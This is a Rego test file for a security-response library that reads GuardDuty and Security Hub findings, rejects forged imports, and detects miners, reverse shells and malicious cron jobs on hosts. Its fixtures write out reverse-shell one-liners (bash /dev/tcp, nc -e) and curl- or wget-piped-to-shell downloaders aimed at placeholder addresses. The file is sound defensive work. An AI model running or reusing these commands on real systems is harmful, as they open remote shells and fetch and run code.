package cordon.lib_test

import data.cordon.lib

# ---------------------------------------------------------------------------
# Finding types

test_type_parts_guardduty if {
	t := "Backdoor:EC2/C&CActivity.B!DNS"
	lib.purpose(t) == "Backdoor"
	lib.target_kind(t) == "EC2"
	lib.threat_name(t) == "C&CActivity.B!DNS"
}

test_type_parts_security_hub if {
	t := "TTPs/Command and Control/Backdoor:EC2-C&CActivity.B!DNS"
	lib.purpose(t) == "Backdoor"
	lib.target_kind(t) == "EC2"
	lib.threat_name(t) == "C&CActivity.B!DNS"
}

test_type_parts_nested_threat_name if {
	t := "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS"
	lib.purpose(t) == "UnauthorizedAccess"
	lib.target_kind(t) == "IAMUser"
	lib.threat_name(t) == "InstanceCredentialExfiltration.OutsideAWS"
	lib.purpose("Execution:Runtime/NewBinaryExecuted") == "Execution"
	lib.target_kind("Execution:Runtime/NewBinaryExecuted") == "Runtime"
}

test_type_parts_undefined_for_other_shapes if {
	not lib.purpose("Software and Configuration Checks/Industry and Regulatory Standards")
	not lib.purpose(":EC2/Nothing")
	not lib.target_kind("no-colon")
	not lib.threat_name("no-colon")
	not lib.threat_name("Backdoor:EC2")
}

test_finding_type_rules if {
	lib.finding_purpose == "CryptoCurrency" with input as {"finding": {"type": "CryptoCurrency:EC2/BitcoinTool.B!DNS"}}
	lib.finding_target_kind == "EC2" with input as {"finding": {"type": "CryptoCurrency:EC2/BitcoinTool.B!DNS"}}
	lib.finding_threat == "BitcoinTool.B!DNS" with input as {"finding": {"type": "CryptoCurrency:EC2/BitcoinTool.B!DNS"}}
}

# ---------------------------------------------------------------------------
# Severity

test_at_least if {
	lib.at_least("high") with input as {"finding": {"severity": "critical"}}
	lib.at_least("high") with input as {"finding": {"severity": "high"}}
	not lib.at_least("high") with input as {"finding": {"severity": "medium"}}
	lib.at_least("informational") with input as {"finding": {"severity": "informational"}}
}

test_at_least_unknown_label_is_never_enough if {
	not lib.at_least("high") with input as {"finding": {"severity": "severe"}}
	not lib.at_least("bogus") with input as {"finding": {"severity": "high"}}
}

# ---------------------------------------------------------------------------
# The raw finding, in its spellings

camel_raw := {"service": {
	"resourceRole": "target",
	"action": {
		"actionType": "AWS_API_CALL",
		"awsApiCallAction": {
			"api": "ListBuckets",
			"errorCode": "AccessDenied",
			"remoteIpDetails": {"ipAddressV4": "203.0.113.9"},
		},
	},
	"evidence": {"threatIntelligenceDetails": [
		{"threatListName": "ProofPoint", "threatNames": ["Emotet", ""]},
		{"threatListName": "", "threatNames": []},
	]},
	"additionalInfo": {"sample": true, "threatListName": "CustomList", "threatName": "Scanner"},
}}

pascal_raw := {"Service": {
	"ResourceRole": "ACTOR",
	"Action": {
		"ActionType": "NETWORK_CONNECTION",
		"NetworkConnectionAction": {
			"ConnectionDirection": "OUTBOUND",
			"RemoteIpDetails": {"IpAddressV4": "198.51.100.8"},
		},
		"DnsRequestAction": {"Domain": "evil.example"},
	},
	"Evidence": {"ThreatIntelligenceDetails": [{"ThreatListName": "CrowdStrike", "ThreatNames": ["Cobalt Strike"]}]},
}}

asff_raw := {
	"ProductArn": "arn:aws:securityhub:us-west-2::product/aws/guardduty",
	"ProductName": "GuardDuty",
	"Sample": true,
	"ProductFields": {
		"aws/guardduty/service/resourceRole": "TARGET",
		"aws/guardduty/service/action/awsApiCallAction/api": "DeleteTrail",
		"aws/guardduty/service/action/awsApiCallAction/errorCode": "AccessDenied",
		"aws/guardduty/service/evidence/threatIntelligenceDetails.0_/threatListName": "Amazon",
		"aws/guardduty/service/evidence/threatIntelligenceDetails.0_/threatNames.0_": "TorNode",
		"aws/securityhub/threatListName": "not GuardDuty's",
	},
}

# raw_input(raw) is a finding read from GuardDuty itself with raw finding
# raw; asff_input(raw) one read from Security Hub, GuardDuty's only if raw's
# ProductArn says so.
raw_input(raw) := {"finding": {"source": "guardduty", "type": "Backdoor:EC2/C&CActivity.B", "severity": "high", "raw": raw}}

asff_input(raw) := {"finding": {"source": "securityhub", "type": "TTPs/Command and Control/Backdoor:EC2-C&CActivity.B", "severity": "high", "raw": raw}}

test_field_reads_both_spellings if {
	lib.field({"threatListName": "a"}, "threatListName") == "a"
	lib.field({"ThreatListName": "b"}, "threatListName") == "b"
	lib.field({"threatListName": "a", "ThreatListName": "b"}, "threatListName") == "a"
	lib.field({"x": false}, "x") == false
	not lib.field({"other": 1}, "x")
	not lib.field("not an object", "x")
}

test_camel_case_raw if {
	lib.threat_lists == {"ProofPoint", "CustomList"} with input as raw_input(camel_raw)
	lib.threat_names == {"Emotet", "Scanner"} with input as raw_input(camel_raw)
	lib.resource_role == "TARGET" with input as raw_input(camel_raw)
	lib.api_name == "ListBuckets" with input as raw_input(camel_raw)
	lib.api_error_code == "AccessDenied" with input as raw_input(camel_raw)
	lib.remote_ip == "203.0.113.9" with input as raw_input(camel_raw)
	lib.sample with input as raw_input(camel_raw)
}

test_pascal_case_raw if {
	lib.threat_lists == {"CrowdStrike"} with input as raw_input(pascal_raw)
	lib.threat_names == {"Cobalt Strike"} with input as raw_input(pascal_raw)
	lib.resource_role == "ACTOR" with input as raw_input(pascal_raw)
	lib.remote_ip == "198.51.100.8" with input as raw_input(pascal_raw)
	lib.domain == "evil.example" with input as raw_input(pascal_raw)
	lib.direction == "OUTBOUND" with input as raw_input(pascal_raw)
	not lib.sample with input as raw_input(pascal_raw)
	not lib.api_name with input as raw_input(pascal_raw)
}

test_security_hub_raw if {
	lib.from_guardduty with input as asff_input(asff_raw)
	lib.threat_lists == {"Amazon"} with input as asff_input(asff_raw)
	lib.threat_names == {"TorNode"} with input as asff_input(asff_raw)
	lib.resource_role == "TARGET" with input as asff_input(asff_raw)
	lib.api_name == "DeleteTrail" with input as asff_input(asff_raw)
	lib.api_error_code == "AccessDenied" with input as asff_input(asff_raw)
	lib.sample with input as asff_input(asff_raw)
}

# ---------------------------------------------------------------------------
# Forged findings: GuardDuty's words from another product
#
# BatchImportFindings lets any product name GuardDuty in ProductName and
# CompanyName and carry aws/guardduty ProductFields; ProductArn it cannot
# choose. Such a finding gets none of GuardDuty's evidence.

# forged_asff is asff_raw imported by a custom product of account
# 111122223333, with GuardDuty's names.
forged_asff := object.union(asff_raw, {
	"ProductArn": "arn:aws:securityhub:us-west-2:111122223333:product/111122223333/default",
	"CompanyName": "Amazon",
	"ProductName": "GuardDuty",
	"GeneratorId": "arn:aws:guardduty:us-west-2:111122223333:detector/12abc34d567e8fa901bc2d34e56789f0",
})

test_forged_security_hub_finding_gets_no_guardduty_evidence if {
	not lib.from_guardduty with input as asff_input(forged_asff)
	count(lib.threat_lists) == 0 with input as asff_input(forged_asff)
	count(lib.threat_names) == 0 with input as asff_input(forged_asff)
	not lib.resource_role with input as asff_input(forged_asff)
	not lib.api_name with input as asff_input(forged_asff)
	not lib.api_error_code with input as asff_input(forged_asff)
	not lib.gd_product_field("resourceRole") with input as asff_input(forged_asff)

	# Sample is Security Hub's own field, and only holds cordon back.
	lib.sample with input as asff_input(forged_asff)
}

# GuardDuty's native fields in a finding that is not GuardDuty's (an OCSF
# or Security Hub document carrying a service block) are not read either.
test_guardduty_fields_of_other_sources_are_not_read if {
	for_source := {src: {"finding": {"source": src, "type": "Backdoor:EC2/C&CActivity.B", "severity": "high", "raw": object.union(camel_raw, pascal_raw)}} |
		some src in {"securityhub", "ocsf", "custom"}
	}
	every doc in for_source {
		not lib.from_guardduty with input as doc
		count(lib.threat_lists) == 0 with input as doc
		count(lib.threat_names) == 0 with input as doc
		not lib.resource_role with input as doc
		not lib.api_name with input as doc
		not lib.api_error_code with input as doc
		not lib.remote_ip with input as doc
		not lib.domain with input as doc
		not lib.direction with input as doc
	}
}

test_from_guardduty_by_product_arn if {
	every arn in {
		"arn:aws:securityhub:us-west-2::product/aws/guardduty",
		"arn:aws:securityhub:ap-southeast-7::product/aws/guardduty",
		"arn:aws-cn:securityhub:cn-north-1::product/aws/guardduty",
		"arn:aws-us-gov:securityhub:us-gov-west-1::product/aws/guardduty",
	} {
		lib.from_guardduty with input as asff_input({"ProductArn": arn})
	}
	every arn in {
		"arn:aws:securityhub:us-west-2:111122223333:product/111122223333/default",
		"arn:aws:securityhub:us-west-2:111122223333:product/aws/guardduty",
		"arn:aws:securityhub:us-west-2::product/aws/guardduty/extra",
		"arn:aws:securityhub:us-west-2::product/aws/guardduty2",
		"arn:aws:securityhub:us-west-2::productv2/aws/guardduty",
		"arn:aws:securityhub:us-west-2::product/aws/inspector",
		"arn:aws:securityhub:::product/aws/guardduty",
		"arn:aws:securityhub:uswest2::product/aws/guardduty",
		"arn:aws:securityhub:us-west-123::product/aws/guardduty",
		"arn:aws:securityhub:US-WEST-2::product/aws/guardduty",
		"arn:aws:securityhub:cn-north-1::product/aws/guardduty",
		"arn:aws:securityhub:us-gov-west-1::product/aws/guardduty",
		"arn:aws-cn:securityhub:us-west-2::product/aws/guardduty",
		"arn:aws-us-gov:securityhub:us-west-2::product/aws/guardduty",
		"arn:aws-iso:securityhub:us-iso-east-1::product/aws/guardduty",
		"arn:aws:guardduty:us-west-2::product/aws/guardduty",
		" arn:aws:securityhub:us-west-2::product/aws/guardduty",
		"",
	} {
		not lib.from_guardduty with input as asff_input({"ProductArn": arn})
	}
	not lib.from_guardduty with input as asff_input({"ProductArn": 42})
	not lib.from_guardduty with input as asff_input({})
}

ocsf_input(uid) := {"finding": {"source": "ocsf", "raw": {"class_uid": 2004, "metadata": {"product": {"uid": uid, "name": "GuardDuty", "vendor_name": "AWS"}}}}}

test_from_guardduty_ocsf if {
	lib.from_guardduty with input as ocsf_input("arn:aws:securityhub:us-east-1::productv2/aws/guardduty")
	lib.from_guardduty with input as ocsf_input("arn:aws:securityhub:us-east-1::product/aws/guardduty")
	not lib.from_guardduty with input as ocsf_input("arn:aws:securityhub:us-east-1:111122223333:product/111122223333/default")
	not lib.from_guardduty with input as ocsf_input("guardduty")
	not lib.from_guardduty with input as {"finding": {"source": "ocsf", "raw": {"class_uid": 2004}}}
}

test_from_guardduty_native if {
	lib.from_guardduty with input as raw_input({})
	not lib.from_guardduty with input as {"finding": {"source": "GuardDuty", "raw": {}}}
	not lib.from_guardduty with input as {"finding": {"raw": {"service": {"serviceName": "guardduty"}}}}
}

test_unknown_raw_shapes_give_nothing if {
	ocsf := {"class_uid": 2004, "finding_info": {"title": "x"}, "evidences": [{"ip": "1.2.3.4"}]}
	count(lib.threat_lists) == 0 with input as raw_input(ocsf)
	count(lib.threat_names) == 0 with input as raw_input(ocsf)
	not lib.resource_role with input as raw_input(ocsf)
	not lib.remote_ip with input as raw_input(ocsf)
	not lib.sample with input as raw_input(ocsf)
}

test_null_evidence_is_no_evidence if {
	raw := {"service": {"evidence": null, "additionalInfo": {"value": "{}", "type": "default"}}}
	count(lib.threat_lists) == 0 with input as raw_input(raw)
	not lib.api_error_code with input as raw_input({"service": {"action": {"awsApiCallAction": {"api": "x", "errorCode": ""}}}})
}

# ---------------------------------------------------------------------------
# Network

test_normalized_network_wins_over_raw if {
	doc := {"finding": {
		"network": {"remote_ip": "192.0.2.1", "domain": "a.example", "direction": "inbound"},
		"actor": {"ip": "192.0.2.2"},
		"raw": pascal_raw,
	}}
	lib.remote_ip == "192.0.2.1" with input as doc
	lib.domain == "a.example" with input as doc
	lib.direction == "INBOUND" with input as doc
}

test_actor_ip_when_no_network if {
	lib.remote_ip == "192.0.2.2" with input as {"finding": {"network": {"remote_ip": ""}, "actor": {"ip": "192.0.2.2"}, "raw": {}}}
}

test_is_ip if {
	lib.is_ip("198.51.100.0")
	lib.is_ip("2001:db8::1")
	not lib.is_ip("GeneratedFindingIP")
	not lib.is_ip("")
	not lib.is_ip(null)
	not lib.is_ip(42)
}

test_is_private_ip if {
	lib.is_private_ip("10.1.2.3")
	lib.is_private_ip("172.31.255.1")
	lib.is_private_ip("192.168.0.10")
	lib.is_private_ip("100.64.1.1")
	lib.is_private_ip("fd00::1")
	not lib.is_private_ip("172.32.0.1")
	not lib.is_private_ip("203.0.113.5")
	not lib.is_private_ip("GeneratedFindingIP")
	not lib.is_private_ip(null)
}

# ---------------------------------------------------------------------------
# Facts

test_usable if {
	lib.usable("triage") with input as {"facts": {"triage": {"hostname": "h"}}}
	not lib.usable("triage") with input as {"facts": {"triage": {}}}
	not lib.usable("triage") with input as {"facts": {"triage": {"error": "boom"}}}
	not lib.usable("triage") with input as {"facts": {}}
	not lib.usable("triage") with input as {"facts": {"triage": {"hostname": "h", "error": "partial"}}}
}

test_gap_says_why if {
	lib.gap("triage") == `collector "triage" failed: SSM agent offline` with input as {"facts": {"triage": {"error": "SSM agent offline"}}}
	lib.gap("triage") == `collector "triage" gathered nothing` with input as {"facts": {"triage": {}}}
	lib.gap("triage") == `collector "triage" gathered nothing` with input as {"facts": {}}
	not lib.gap("triage") with input as {"facts": {"triage": {"hostname": "h"}}}
}

# ---------------------------------------------------------------------------
# Host triage

proc(pid, name, exe, cmdline) := {"pid": pid, "ppid": 1, "name": name, "exe": exe, "cmdline": cmdline, "user": "www-data"}

conn(pid, state, ip, port) := {"pid": pid, "protocol": "tcp", "state": state, "local_ip": "10.0.0.5", "local_port": 40000, "remote_ip": ip, "remote_port": port}

test_miner_by_name if {
	p := proc(7, "xmrig", "/opt/x/xmrig", "xmrig")
	lib.miner_processes({"processes": [p, proc(8, "nginx", "/usr/sbin/nginx", "nginx: worker")]}) == {p}
}

test_miner_by_renamed_binary_and_arguments if {
	renamed := proc(9, "kworker", "/var/tmp/.k/kworker", "kworker -o stratum+tcp://pool.example:3333 -u wallet")
	by_exe := proc(10, "java", "/usr/local/bin/xmr-stak", "java")
	donate := proc(11, "syslogd", "/usr/sbin/syslogd", "syslogd --donate-level 1")
	lib.miner_processes({"processes": [renamed, by_exe, donate]}) == {renamed, by_exe, donate}
}

test_no_miner_in_ordinary_processes if {
	ps := [
		proc(1, "systemd", "/usr/lib/systemd/systemd", "/sbin/init"),
		proc(2, "java", "/usr/bin/java", "java -jar app.jar --port 3333"),
		proc(3, "python3", "/usr/bin/python3", "python3 -m http.server"),
	]
	count(lib.miner_processes({"processes": ps})) == 0
}

test_shells_and_programs_by_directory if {
	shm_shell := proc(20, "bash", "/dev/shm/.x/bash", "bash")
	tmp_shell := proc(21, "sh", "/tmp/sh", "sh")
	shm_prog := proc(22, "kthreadd", "/dev/shm/kthreadd", "kthreadd")
	tmp_prog := proc(23, "installer", "/tmp/install-1234/installer", "installer --quiet")
	normal := proc(24, "bash", "/usr/bin/bash", "-bash")
	t := {"processes": [shm_shell, tmp_shell, shm_prog, tmp_prog, normal]}
	lib.shells_from_writable_dirs(t) == {shm_shell, tmp_shell}
	lib.programs_in_memory_dirs(t) == {shm_prog}
	lib.programs_in_tmp(t) == {tmp_prog}
}

test_deleted_executables if {
	gone := proc(30, "bash", "/tmp/.b (deleted)", "bash")
	t := {"processes": [gone, proc(31, "sshd", "/usr/sbin/sshd", "sshd")]}
	lib.deleted_executables(t) == {gone}
	lib.exe_path(gone) == "/tmp/.b"

	# A deleted shell in /tmp is still a shell from a writable directory.
	lib.shells_from_writable_dirs(t) == {gone}
}

test_reverse_shell_by_connection if {
	shell := proc(40, "bash", "/usr/bin/bash", "bash")
	c := conn(40, "ESTABLISHED", "203.0.113.50", 4444)
	t := {
		"processes": [shell, proc(41, "sshd", "/usr/sbin/sshd", "sshd")],
		"connections": [c, conn(41, "ESTABLISHED", "192.0.2.9", 50122), conn(40, "LISTEN", "0.0.0.0", 0)],
	}
	lib.reverse_shells(t) == {[shell, c]}
}

test_shell_talking_to_loopback_is_not_a_reverse_shell if {
	t := {
		"processes": [proc(40, "bash", "/usr/bin/bash", "bash")],
		"connections": [conn(40, "ESTABLISHED", "127.0.0.1", 5432)],
	}
	count(lib.reverse_shells(t)) == 0
}

test_reverse_shell_command_lines if {
	dev_tcp := proc(50, "bash", "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1")
	nc := proc(51, "nc", "/usr/bin/nc", "nc 203.0.113.5 4444 -e /bin/sh")
	py := proc(52, "python3", "/usr/bin/python3", `python3 -c 'import pty;pty.spawn("/bin/bash")'`)
	benign := proc(53, "nc", "/usr/bin/nc", "nc -z db.internal 5432")
	lib.reverse_shell_commands({"processes": [dev_tcp, nc, py, benign]}) == {dev_tcp, nc, py}
}

test_connections_logins_sessions if {
	t := {
		"connections": [conn(60, "ESTABLISHED", "198.51.100.7", 22), conn(61, "TIME_WAIT", "198.51.100.7", 22)],
		"logins": [
			{"user": "root", "from": "198.51.100.7", "time": "2025-03-14T06:12:43Z", "success": true},
			{"user": "admin", "from": "198.51.100.7", "time": "2025-03-14T06:10:00Z", "success": false},
			{"user": "ec2-user", "from": "192.0.2.10", "time": "2025-03-13T09:00:00Z", "success": true},
		],
		"users": [{"name": "root", "tty": "pts/0", "from": "198.51.100.7", "login_time": "2025-03-14T06:12:44Z"}],
	}
	lib.connections_to(t, "198.51.100.7") == {conn(60, "ESTABLISHED", "198.51.100.7", 22)}
	{l.user | some l in lib.logins_from(t, "198.51.100.7")} == {"root"}
	{u.name | some u in lib.sessions_from(t, "198.51.100.7")} == {"root"}
	count(lib.logins_from(t, "203.0.113.1")) == 0
}

test_pool_connections if {
	t := {"connections": [conn(70, "ESTABLISHED", "198.51.100.200", 3333), conn(71, "ESTABLISHED", "198.51.100.201", 443)]}
	lib.pool_connections(t) == {conn(70, "ESTABLISHED", "198.51.100.200", 3333)}
}

test_download_and_run_cron if {
	entries := [
		{"user": "root", "schedule": "*/5 * * * *", "command": "curl -fsSL http://203.0.113.45/ldr.sh | sh"},
		{"user": "root", "schedule": "@reboot", "command": "wget -q -O /tmp/.x http://x.example/a; sh /tmp/.x"},
		{"user": "www", "schedule": "* * * * *", "command": "/dev/shm/.k/run >/dev/null 2>&1"},
		{"user": "root", "schedule": "0 3 * * *", "command": "/usr/bin/find /tmp -type f -mtime +7 -delete"},
		{"user": "root", "schedule": "0 4 * * *", "command": "curl -fsS https://hc-ping.example/abc"},
	]
	{e.user | some e in lib.download_and_run_cron({"cron": entries})} == {"root", "www"}
	count(lib.download_and_run_cron({"cron": entries})) == 3
}

test_changed_files if {
	t := {"files": [
		{"path": "/etc/ld.so.preload", "mtime": "2025-03-14T06:13:00Z"},
		{"path": "/root/.ssh/authorized_keys", "mtime": "2025-03-14T06:13:02Z"},
		{"path": "/etc/hosts", "mtime": "2025-03-01T00:00:00Z"},
	]}
	{f.path | some f in lib.preload_files(t)} == {"/etc/ld.so.preload"}
	{f.path | some f in lib.changed_authorized_keys(t)} == {"/root/.ssh/authorized_keys"}
}

test_labels if {
	lib.process_label(proc(7, "xmrig", "/tmp/x/xmrig", "")) == "xmrig (pid 7, user www-data, /tmp/x/xmrig)"
	lib.process_label({"pid": 3}) == "? (pid 3, user ?, unknown executable)"
	lib.connection_label(conn(1, "ESTABLISHED", "203.0.113.5", 443)) == "203.0.113.5:443"
}

test_empty_triage_gives_empty_sets if {
	t := {}
	count(lib.miner_processes(t)) == 0
	count(lib.reverse_shells(t)) == 0
	count(lib.established(t)) == 0
	count(lib.download_and_run_cron(t)) == 0
}

# ---------------------------------------------------------------------------
# CloudTrail

event(name, key, ip, err) := {"time": "2025-03-14T11:33:40Z", "event_name": name, "event_source": "iam.amazonaws.com", "user": "ci", "access_key_id": key, "source_ip": ip, "error_code": err, "resources": [], "read_only": false}

test_events_by_key_and_address if {
	ct := {"events": [
		event("CreateUser", "AKIA1", "198.51.100.61", ""),
		event("CreateUser", "AKIA2", "198.51.100.61", ""),
		event("ListUsers", "AKIA1", "192.0.2.1", ""),
	]}
	count(lib.events_by(ct, "AKIA1", "198.51.100.61")) == 1
	count(lib.events_by(ct, "AKIA1", "")) == 2
	count(lib.events_by(ct, "AKIA3", "")) == 0
}

test_succeeded if {
	lib.succeeded(event("CreateUser", "AKIA1", "1.2.3.4", ""))
	lib.succeeded({"event_name": "CreateUser"})
	not lib.succeeded(event("CreateUser", "AKIA1", "1.2.3.4", "AccessDenied"))
}

# ---------------------------------------------------------------------------
# Responses

test_allowed if {
	lib.allowed("isolate") with input as {"rule": {"name": "r", "actions": ["isolate", "notify"]}}
	not lib.allowed("stop") with input as {"rule": {"name": "r", "actions": ["isolate", "notify"]}}
	not lib.allowed("stop") with input as {"rule": {"name": "r", "actions": []}}
}

test_decimal if {
	lib.decimal(0.9) == "0.90"
	lib.decimal(0.95) == "0.95"
	lib.decimal(1) == "1.00"
	lib.decimal(0) == "0.00"
	lib.decimal(0.999) == "1.00"
}

test_camel_case_network_and_dns if {
	raw := {"service": {"action": {
		"networkConnectionAction": {"connectionDirection": "INBOUND", "remoteIpDetails": {"ipAddressV4": "198.51.100.23"}},
		"dnsRequestAction": {"domain": "pool.supportxmr.com"},
	}}}
	lib.remote_ip == "198.51.100.23" with input as raw_input(raw)
	lib.direction == "INBOUND" with input as raw_input(raw)
	lib.domain == "pool.supportxmr.com" with input as raw_input(raw)
}

test_pascal_case_additional_info if {
	raw := {"Service": {"AdditionalInfo": {"Sample": true, "ThreatListName": "ProofPoint", "ThreatName": "Scanner"}}}
	lib.sample with input as raw_input(raw)
	lib.threat_lists == {"ProofPoint"} with input as raw_input(raw)
	lib.threat_names == {"Scanner"} with input as raw_input(raw)
}

test_pascal_case_api_call if {
	raw := {"Service": {"Action": {"AwsApiCallAction": {
		"Api": "CreateUser",
		"ErrorCode": "AccessDenied",
		"RemoteIpDetails": {"IpAddressV4": "198.51.100.9"},
	}}}}
	lib.api_name == "CreateUser" with input as raw_input(raw)
	lib.api_error_code == "AccessDenied" with input as raw_input(raw)
	lib.remote_ip == "198.51.100.9" with input as raw_input(raw)
}

test_shell_by_executable_when_renamed if {
	p := proc(80, "kworker", "/usr/bin/bash", "[kworker/0:1]")
	lib.is_shell(p)
	not lib.is_shell(proc(81, "bashful", "/opt/bashful", "bashful"))
}

# ---------------------------------------------------------------------------
# Threat families

test_threat_activity_by_family if {
	lib.threat_family("C&CActivity.B!DNS") == "C&CActivity"
	lib.threat_family("MaliciousDomainRequest.Reputation") == "MaliciousDomainRequest"
	lib.threat_activity == "queried a domain of a known command-and-control server" with input as {"finding": {"type": "Backdoor:Runtime/C&CActivity.B!DNS"}}
	lib.threat_activity == "contacted a known drop point for stolen credentials and data" with input as {"finding": {"type": "Trojan:Lambda/DropPoint"}}
	lib.threat_activity == "queried a domain known to be malicious" with input as {"finding": {"type": "Impact:EC2/MaliciousDomainRequest.Reputation"}}
	not lib.threat_activity with input as {"finding": {"type": "Execution:Runtime/ReverseShell"}}
	lib.threat_activity == "is exfiltrating data through DNS queries" with input as {"finding": {"type": "Trojan:EC2/DNSDataExfiltration!DNS"}}
}

test_sample_from_the_normalized_finding if {
	lib.sample with input as {"finding": {"source": "securityhub", "type": "x", "sample": true, "raw": {}}}
	not lib.sample with input as {"finding": {"source": "guardduty", "type": "x", "sample": false, "raw": {}}}
}

# ---------------------------------------------------------------------------
# Runtime Monitoring and Malware Protection

runtime_camel := {"service": {"runtimeDetails": {
	"process": {"name": "kworkerds", "pid": 48213, "user": "root", "executablePath": "/tmp/.x/kworkerds", "executableSha256": "5c3f", "lineage": []},
	"context": {
		"commandLineExample": "sh -c 'curl http://203.0.113.7/x | sh'",
		"modifyingProcess": {"name": "curl", "executablePath": "/usr/bin/curl"},
		"threatFilePath": "",
		"toolName": {"unexpected": "shape"},
	},
}}}

runtime_pascal := {"Service": {"RuntimeDetails": {
	"Process": {"Name": "xmrig", "Pid": 7, "ExecutablePath": "/tmp/xmrig"},
	"Context": {"ToolName": "masscan", "MountSource": "/var/run/docker.sock"},
}}}

test_runtime_process_in_both_spellings if {
	lib.runtime_process == {"name": "kworkerds", "pid": 48213, "user": "root", "exe": "/tmp/.x/kworkerds", "sha256": "5c3f"} with input as raw_input(runtime_camel)
	lib.runtime_process == {"name": "xmrig", "pid": 7, "exe": "/tmp/xmrig"} with input as raw_input(runtime_pascal)
	lib.process_label(lib.runtime_process) == "xmrig (pid 7, user ?, /tmp/xmrig)" with input as raw_input(runtime_pascal)
	lib.runtime_process == {} with input as raw_input({})
}

test_runtime_context_facts if {
	lib.runtime_context_facts == [
		["the command line", "sh -c 'curl http://203.0.113.7/x | sh'"],
		["the process that wrote the file", "/usr/bin/curl"],
	] with input as raw_input(runtime_camel)
	lib.runtime_context_facts == [["the tool", "masscan"], ["the host path mounted", "/var/run/docker.sock"]] with input as raw_input(runtime_pascal)
}

test_runtime_details_only_from_guardduty if {
	lib.runtime_process == {} with input as asff_input(object.union(forged_asff, runtime_camel))
	not lib.runtime_context with input as asff_input(object.union(forged_asff, runtime_camel))
}

test_malware_detections_of_volume_scans if {
	camel := {"service": {"ebsVolumeScanDetails": {"scanDetections": {"threatDetectedByName": {"threatNames": [
		{"name": "EICAR-Test-File", "filePaths": [{"filePath": "/tmp/b.com"}, {"filePath": "/tmp/a.com"}, {"filePath": ""}]},
		{"name": "Linux.Trojan.Kinsing", "filePaths": []},
		{"name": ""},
	]}}}}}
	lib.malware_detections == {"EICAR-Test-File in /tmp/a.com, /tmp/b.com", "Linux.Trojan.Kinsing"} with input as raw_input(camel)
	pascal := {"Service": {"EbsVolumeScanDetails": {"ScanDetections": {"ThreatDetectedByName": {"ThreatNames": [{"Name": "Xmrig", "FilePaths": [{"FilePath": "/opt/x"}]}]}}}}}
	lib.malware_detections == {"Xmrig in /opt/x"} with input as raw_input(pascal)
}

test_malware_detections_of_object_scans if {
	camel := {"service": {"malwareScanDetails": {"threats": [
		{"name": "EICAR-Test-File", "itemPaths": [{"nestedItemPath": "invoice.zip/invoice.pdf.exe", "hash": "275a"}]},
		{"name": "Win.Trojan.Agent", "itemPaths": [{"nestedItemPath": ""}]},
	]}}}
	lib.malware_detections == {"EICAR-Test-File in invoice.zip/invoice.pdf.exe", "Win.Trojan.Agent"} with input as raw_input(camel)
	pascal := {"Service": {"MalwareScanDetails": {"Threats": [{"Name": "Emotet", "ItemPaths": [{"NestedItemPath": "a.doc"}]}]}}}
	lib.malware_detections == {"Emotet in a.doc"} with input as raw_input(pascal)
}

# ---------------------------------------------------------------------------
# Credentials a response may contain

test_long_term_keys if {
	lib.long_term_key({"type": "aws_iam_access_key", "id": "AKIAXQ4G7NF2ALICEKEY", "details": {"user_type": "IAMUser"}})
	lib.long_term_key({"type": "aws_iam_access_key", "id": "AKIAXQ4G7NF2ALICEKEY", "details": {}})
	not lib.long_term_key({"type": "aws_iam_access_key", "id": "ASIAXQ4G7NF2R5EXAMPL", "details": {}})
	not lib.long_term_key({"type": "aws_iam_access_key", "id": "AKIAROOTKEYEXAMPLE01", "details": {"user_type": "Root"}})
	not lib.long_term_key({"type": "aws_iam_user", "id": "alice", "details": {}})
}

test_finding_keys_and_principals if {
	key := {"type": "aws_iam_access_key", "id": "AKIA1", "details": {}}
	user := {"type": "aws_iam_user", "id": "alice", "details": {}}
	role := {"type": "aws_iam_role", "id": "web", "details": {}}
	bucket := {"type": "aws_s3_bucket", "id": "b", "details": {}}
	x := {"finding": {"resources": [bucket, key, user, role]}}
	[k.id | some k in lib.finding_keys] == ["AKIA1"] with input as x
	[p.id | some p in lib.finding_principals] == ["alice", "web"] with input as x
}
